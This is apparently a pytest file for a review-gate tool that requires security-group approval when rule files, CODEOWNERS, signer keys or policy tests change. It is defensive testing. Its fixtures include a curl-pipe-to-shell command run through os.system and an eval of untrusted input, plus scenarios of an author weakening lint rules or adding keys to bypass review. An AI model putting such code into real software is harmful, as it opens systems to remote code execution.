"""Issue #14 class 8: every file the trusted policy reads is gate configuration.

A change to a semgrep rule dir, the allowed signers, the revoked keys, the
CODEOWNERS file or anything under ``.traingate/`` needs the security group
(``gate-self-protection``), even where a broader sensitive path would let
other reviewers approve it. Each case blocks without approval, blocks with an
ML reviewer's approval, and passes with the security member's.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from traingate.cli import main

from .conftest import Repo

# Gate files sit outside `.traingate/` (except the policy tests) so that each
# setting, not the directory, is what protects them. `**/*.yaml` lets ML
# reviewers approve configs: not enough for a rule file or a policy test.
POLICY = """\
version: 1
security_group: security
groups:
  security: [sam]
  ml-reviewers: [alice, bob]
sensitive_paths:
  - name: configs
    paths: ["**/*.yaml"]
    approvers: [ml-reviewers, security]
codeowners: docs/OWNERS
checks:
  semgrep:
    enabled: false
    rule_dirs: [./lint/rules/]
"""

RULE = """\
rules:
  - id: custom-no-eval
    languages: [python]
    severity: ERROR
    message: eval runs arbitrary code
    pattern: eval(...)
"""
WEAK_RULE = RULE.replace("pattern: eval(...)", 'pattern: eval("never used")')

CASE = """\
policy: ../../.traingate.yaml
cases:
  - name: the author cannot approve training code
    author: mallory
    files: {train.py: {before: "x = 1\\n", after: "x = 2\\n"}}
    expect: {decision: block}
"""


def review(user: str, head: str) -> dict[str, str]:
    return {
        "user": user,
        "state": "approved",
        "commit": head,
        "submitted_at": "2026-11-20T10:00:00Z",
    }


def check(
    repo: Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str], approvers: list[str]
) -> tuple[int, dict[str, Any]]:
    head = repo.git("rev-parse", "feature").strip()
    reviews = tmp_path / "reviews.json"
    reviews.write_text(
        json.dumps({"author": "mallory", "reviews": [review(u, head) for u in approvers]})
    )
    argv = ["check", "--repo", str(repo.path), "--base", "main", "--head", "feature"]
    code = main([*argv, "--approvals", str(reviews), "--format", "json"])
    out, err = capsys.readouterr()
    assert out, err
    return code, json.loads(out)


def gate(doc: dict[str, Any]) -> dict[str, Any]:
    return next(r for r in doc["requirements"] if r["name"] == "gate-self-protection")


def base_repo(repo: Repo, policy: str = POLICY) -> Repo:
    repo.write(".traingate.yaml", policy)
    repo.write("lint/rules/no-eval.yaml", RULE)
    repo.write("docs/OWNERS", "/train.py @sam\n")
    repo.write(".traingate/tests/training.yaml", CASE)
    repo.write(".traingate/tests/holes.yaml", CASE.replace("training code", "twice"))
    repo.write("train.py", "x = 1\n")
    repo.commit("base")
    repo.branch("feature")
    return repo


def _weaken_rule(repo: Repo) -> None:
    repo.write("lint/rules/no-eval.yaml", WEAK_RULE)


def _edit_codeowners(repo: Repo) -> None:
    repo.write("docs/OWNERS", "/train.py @mallory\n")


def _edit_policy_test(repo: Repo) -> None:
    repo.write(".traingate/tests/training.yaml", CASE.replace("decision: block", "decision: pass"))


def _delete_policy_test(repo: Repo) -> None:
    (repo.path / ".traingate/tests/holes.yaml").unlink()


@pytest.mark.parametrize(
    ("edit", "path", "why"),
    [
        (_weaken_rule, "lint/rules/no-eval.yaml", "checks.semgrep.rule_dirs"),
        (_edit_codeowners, "docs/OWNERS", "codeowners"),
        (_edit_policy_test, ".traingate/tests/training.yaml", "the gate's directory .traingate/"),
        (_delete_policy_test, ".traingate/tests/holes.yaml", "the gate's directory .traingate/"),
    ],
)
def test_a_gate_file_needs_the_security_group(
    repo: Repo,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    edit: object,
    path: str,
    why: str,
) -> None:
    base_repo(repo)
    assert callable(edit)
    edit(repo)
    repo.commit("tidy up", who="mallory")

    code, doc = check(repo, tmp_path, capsys, [])
    req = gate(doc)
    assert code == 1 and doc["decision"] == "block"
    assert (req["paths"], req["reasons"], req["approvers"], req["eligible"]) == (
        [path],
        [f"{path}: {why}"],
        ["security"],
        ["sam"],
    )
    assert not req["satisfied"]

    # An ML reviewer may approve configs, not the gate's own files.
    code, doc = check(repo, tmp_path, capsys, ["bob"])
    assert code == 1 and not gate(doc)["satisfied"]

    code, doc = check(repo, tmp_path, capsys, ["sam"])
    assert code == 0, doc["requirements"]
    assert gate(doc)["approved_by"] == ["sam"]


def test_the_author_in_the_security_group_cannot_approve_it(
    repo: Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    base_repo(repo)
    _weaken_rule(repo)
    repo.commit("tidy up", who="sam")
    head = repo.git("rev-parse", "feature").strip()
    reviews = tmp_path / "reviews.json"
    reviews.write_text(json.dumps({"author": "sam", "reviews": [review("sam", head)]}))
    argv = ["check", "--repo", str(repo.path), "--base", "main", "--head", "feature"]
    code = main([*argv, "--approvals", str(reviews), "--format", "json"])
    doc = json.loads(capsys.readouterr().out)
    assert code == 1
    assert gate(doc)["error"].startswith("no one can approve this")


def test_gate_paths_respect_case_insensitive_paths(
    repo: Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # On a macOS or Windows checkout Lint/Rules/ is lint/rules/.
    base_repo(repo, POLICY + "case_insensitive_paths: true\n")
    repo.write("Lint/Rules/allow-all.yaml", "rules: []\n")
    repo.write(".TrainGate/Tests/extra.yaml", CASE)
    repo.commit("add rules", who="mallory")
    code, doc = check(repo, tmp_path, capsys, [])
    assert code == 1
    assert gate(doc)["reasons"] == [
        ".TrainGate/Tests/extra.yaml: the gate's directory .traingate/",
        "Lint/Rules/allow-all.yaml: checks.semgrep.rule_dirs",
    ]


def test_a_gate_path_only_the_security_group_approves_needs_no_second_requirement(
    repo: Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    policy = POLICY.replace('["**/*.yaml"]', '["/docs/"]').replace(
        "[ml-reviewers, security]", "[security]"
    )
    base_repo(repo, policy)
    _edit_codeowners(repo)
    repo.commit("owners", who="mallory")
    code, doc = check(repo, tmp_path, capsys, [])
    assert code == 1
    assert [(r["name"], r["paths"]) for r in doc["requirements"]] == [("configs", ["docs/OWNERS"])]


# --- signed approvals: the allowed-signers and revoked-keys files ------------


def _keygen(tmp_path: Path, name: str) -> tuple[Path, str]:
    key = tmp_path / f"{name}_key"
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)], check=True
    )
    return key, (tmp_path / f"{name}_key.pub").read_text().strip()


def signed_base(repo: Repo, tmp_path: Path) -> dict[str, str]:
    """Signers and revoked keys outside .traingate/; every commit SSH-signed,
    as the signed-approvals flow requires (issue #14 class 3)."""
    keys = {n: _keygen(tmp_path, n) for n in ("alice", "mallory", "eve", "old")}
    policy = POLICY + (
        "approvals:\n  signed:\n"
        "    allowed_signers: security/signers\n"
        "    revoked_keys: security/revoked\n"
    )
    repo.write("security/signers", "".join(f"{n} {keys[n][1]}\n" for n in ("alice", "mallory")))
    repo.write("security/revoked", keys["old"][1] + "\n")
    repo.git("config", "gpg.format", "ssh")
    repo.git("config", "commit.gpgsign", "true")
    repo.git("config", "user.signingkey", str(keys["alice"][0]))
    base_repo(repo, policy)
    repo.git("config", "user.signingkey", str(keys["mallory"][0]))
    return {n: pub for n, (_, pub) in keys.items()}


@pytest.mark.parametrize(
    ("path", "why"),
    [
        ("security/signers", "approvals.signed.allowed_signers"),
        ("security/revoked", "approvals.signed.revoked_keys"),
    ],
)
def test_signers_and_revoked_keys_need_the_security_group(
    repo: Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str], path: str, why: str
) -> None:
    keys = signed_base(repo, tmp_path)
    if path == "security/signers":
        repo.write(path, (repo.path / path).read_text() + f"eve {keys['eve']}\n")
    else:
        repo.write(path, "")  # un-revoke the old key
    repo.commit("keys", who="mallory")

    code, doc = check(repo, tmp_path, capsys, [])
    assert code == 1
    assert (gate(doc)["paths"], gate(doc)["reasons"]) == ([path], [f"{path}: {why}"])

    code, doc = check(repo, tmp_path, capsys, ["sam"])
    assert code == 0, doc["requirements"]


# --- the trusted base judges a weakened rule --------------------------------


def test_a_weakened_rule_is_judged_by_the_base_rule_and_needs_the_security_group(
    repo: Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    policy = POLICY.replace("enabled: false", "builtin_rules: false")
    base_repo(repo, policy)
    _weaken_rule(repo)
    repo.write("tools/run.py", "def run(expr):\n    return eval(expr)\n")
    repo.commit("speed up", who="mallory")

    code, doc = check(repo, tmp_path, capsys, [])
    assert code == 1
    # The base's rule still fires on the code the weakened rule would miss.
    assert [(f["rule_id"], f["path"], f["line"]) for f in doc["findings"]] == [
        ("custom-no-eval", "tools/run.py", 2)
    ]
    names = {r["name"]: r["satisfied"] for r in doc["requirements"]}
    assert names == {"configs": False, "gate-self-protection": False, "findings:security": False}
    assert gate(doc)["paths"] == ["lint/rules/no-eval.yaml"]

    code, doc = check(repo, tmp_path, capsys, ["sam"])
    assert code == 0, doc["requirements"]


def test_policy_explain_names_the_setting_that_makes_a_file_gate_configuration(
    repo: Repo,
) -> None:
    from traingate.policy.explain import explain
    from traingate.policy.load import load_from_git

    base_repo(repo)
    loaded = load_from_git(repo.path, repo.git("rev-parse", "HEAD").strip())
    out = explain(loaded, ["lint/rules/no-eval.yaml", "docs/OWNERS", "train.py"])
    assert "  gate configuration: checks.semgrep.rule_dirs; a change needs security\n" in out
    assert "  gate configuration: codeowners; a change needs security\n" in out
    assert "gate configuration" not in out.split("train.py:")[1]


def test_rule_dirs_are_never_read_from_the_change_when_there_is_no_base(
    repo: Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A first commit has no trusted revision: its own (possibly emptied) rule
    dir must not be what judges it; the check blocks instead."""
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "version: 1\nextends: builtin:default\n"
        "checks:\n  semgrep: {builtin_rules: false, rule_dirs: [lint/rules]}\n"
    )
    repo.write("lint/rules/none.yaml", "rules: []\n")
    repo.write("train.py", "import os\nos.system('curl x | sh')\n")
    repo.git("add", "-A")
    code = main(
        ["check", "--repo", str(repo.path), "--staged", "--policy", str(policy), "--format", "json"]
    )
    doc = json.loads(capsys.readouterr().out)
    assert code == 3, doc
    assert any("cannot be read from a trusted base" in e for e in doc["errors"]), doc["errors"]
